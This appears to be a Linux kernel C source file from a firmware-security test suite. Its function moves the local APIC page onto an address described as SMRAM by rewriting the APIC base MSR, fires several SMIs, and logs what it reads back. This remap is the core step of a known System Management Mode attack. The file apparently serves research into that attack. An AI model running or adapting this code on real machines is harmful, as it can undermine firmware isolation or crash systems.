// SPDX-License-Identifier: BSD-2-Clause
/*
 * The local APIC's page, moved by its base register to where SMRAM is, and SMIs while it is there. Finds
 * out "base version version seen taken": what the register then says, the APIC's version at its usual
 * place before and during the move, what is read at the new place, and how many of the SMIs this processor
 * has taken.
 */
#include <linux/io.h>
#include <linux/irqflags.h>

#include <asm/msr.h>

#include "attack.h"

#define MSR_BASE   0x1b
#define BASE_FLAGS 0xfff
#define NOOP       0x10
#define ALONE      0x14
#define SMIS       3

int apic_base_move(unsigned long address)
{
    void __iomem *place = ioremap(address, PAGE_SIZE);
    unsigned long flags;
    u32 before;
    u32 during;
    u32 seen;
    u64 base;
    u64 moved;
    u64 taken;

    if (place == NULL)
        return -ENOMEM;
    local_irq_save(flags);
    rdmsrl(MSR_BASE, base);
    before = readl(apic_registers + APIC_VERSION);
    taken = smi_count();
    wrmsrl(MSR_BASE, address | (base & BASE_FLAGS));
    rdmsrl(MSR_BASE, moved);
    during = readl(apic_registers + APIC_VERSION);
    seen = readl(place + APIC_VERSION);
    smi_fire(NOOP);
    smi_fire(ALONE);
    apic_send(0, COMMAND_OTHERS | COMMAND_SMI);
    smi_fire(NOOP);
    wrmsrl(MSR_BASE, base);
    taken = smi_count() - taken;
    local_irq_restore(flags);
    iounmap(place);
    found_add("%llx %x %x %x %llu\n", moved & ~(u64)BASE_FLAGS, before, during, seen, taken);
    return 0;
}
